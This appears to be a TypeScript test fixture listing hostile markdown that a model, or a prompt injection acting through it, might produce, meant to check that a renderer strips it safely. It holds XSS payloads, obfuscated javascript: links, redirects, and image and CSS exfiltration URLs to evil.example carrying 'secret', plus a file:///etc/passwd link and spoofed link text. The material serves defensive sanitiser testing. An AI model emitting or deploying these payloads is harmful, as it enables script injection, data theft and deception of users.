/** One piece of hostile model output and what it tries. */
export interface HostileMarkdown {
  readonly name: string;
  readonly markdown: string;
}

const longLine = "x".repeat(200_000);

/**
 * Markdown a model (or a prompt injection through it) might produce to run script, leave
 * the page, load remote content or deceive the reader. Rendering any of these must leave
 * no script, frame, plugin, event handler, inline style, unsafe link or remote image.
 * @internal
 */
export const hostileMarkdown: readonly HostileMarkdown[] = [
  { name: "script tag", markdown: "<script>alert(1)</script>" },
  { name: "inline script tag", markdown: "Hello <script>alert(1)</script> world" },
  { name: "img onerror", markdown: "<img src=x onerror=alert(1)>" },
  { name: "iframe srcdoc", markdown: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: "svg onload", markdown: "<svg onload=alert(1)><circle r=5 /></svg>" },
  {
    name: "object and embed",
    markdown: '<object data="javascript:alert(1)"></object>\n<embed src="javascript:alert(1)">',
  },
  { name: "raw html link", markdown: '<a href="javascript:alert(1)">click</a>' },
  { name: "raw html entity link", markdown: '<a href="&#106;avascript:alert(1)">click</a>' },
  {
    name: "form action",
    markdown: '<form action="javascript:alert(1)"><button>go</button></form>',
  },
  {
    name: "meta refresh",
    markdown: '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  },
  {
    name: "base href",
    markdown: '<base href="https://evil.example/">\n\n[home](https://example.com)',
  },
  {
    name: "mutation xss",
    markdown: "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  },
  { name: "comment breakout", markdown: "<!--><img src=x onerror=alert(1)>-->" },
  { name: "xmp breakout", markdown: "<xmp><script>alert(1)</script></xmp>" },
  { name: "javascript link", markdown: "[x](javascript:alert(1))" },
  { name: "mixed case scheme", markdown: "[x](JaVaScRiPt:alert(1))" },
  { name: "tab entity in scheme", markdown: "[x](java&#x09;script:alert(1))" },
  { name: "newline entity in scheme", markdown: "[x](java&#10;script:alert(1))" },
  { name: "colon entity", markdown: "[x](javascript&colon;alert(1))" },
  { name: "decimal entity letter", markdown: "[x](&#106;avascript:alert(1))" },
  { name: "percent-encoded scheme", markdown: "[x](%6A%61vascript:alert(1))" },
  { name: "leading spaces", markdown: "[x](   javascript:alert(1))" },
  { name: "leading newline", markdown: "[x](\njavascript:alert(1))" },
  { name: "leading tab and spaces", markdown: "[x](<  \tjavascript:alert(1)>)" },
  { name: "null byte before scheme", markdown: "[x](\u0000javascript:alert(1))" },
  { name: "null byte inside scheme", markdown: "[x](java\u0000script:alert(1))" },
  { name: "javascript with comment", markdown: "[x](javascript://%0aalert(1))" },
  {
    name: "data html link",
    markdown: "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  },
  { name: "vbscript link", markdown: "[x](vbscript:msgbox(1))" },
  { name: "file link", markdown: "[x](file:///etc/passwd)" },
  { name: "protocol-relative link", markdown: "[x](//evil.example/login)" },
  { name: "javascript autolink", markdown: "<javascript:alert(1)>" },
  { name: "data autolink", markdown: "<data:text/html;base64,PHNjcmlwdD4=>" },
  { name: "reference-style link", markdown: "[x][evil]\n\n[evil]: javascript:alert(1)" },
  { name: "footnote link", markdown: "See[^1].\n\n[^1]: [x](javascript:alert(1))" },
  { name: "image exfiltration", markdown: "![](https://evil.example/?q=secret)" },
  {
    name: "reference-style image",
    markdown: "![pixel][img]\n\n[img]: https://evil.example/pixel.png?q=secret",
  },
  { name: "javascript image", markdown: "![x](javascript:alert(1))" },
  { name: "data svg image", markdown: "![x](data:image/svg+xml,<svg onload=alert(1)>)" },
  { name: "linked image", markdown: "[![x](https://evil.example/a.png)](https://example.com)" },
  {
    name: "css injection by style attribute",
    markdown: '<div style="background:url(https://evil.example/?q=secret)">x</div>',
  },
  { name: "overlay by style attribute", markdown: '<span style="position:fixed;inset:0">x</span>' },
  { name: "style element", markdown: "<style>body{display:none}</style>" },
  {
    name: "title attribute injection",
    markdown: '[x](https://example.com "onmouseover=alert(1)")',
  },
  { name: "code fence language injection", markdown: '```" onmouseover="alert(1)\ncode\n```' },
  { name: "rtl override in link text", markdown: "[\u202Egnp.exe](https://example.com)" },
  { name: "zero-width in link text", markdown: "[pay\u200Bpal.com](javascript:alert(1))" },
  { name: "escaped tags as text", markdown: "&lt;script&gt;alert(1)&lt;/script&gt;" },
  { name: "200 000-character line", markdown: `\`\`\`ts\n${longLine}\n\`\`\`\n\n${longLine}` },
];
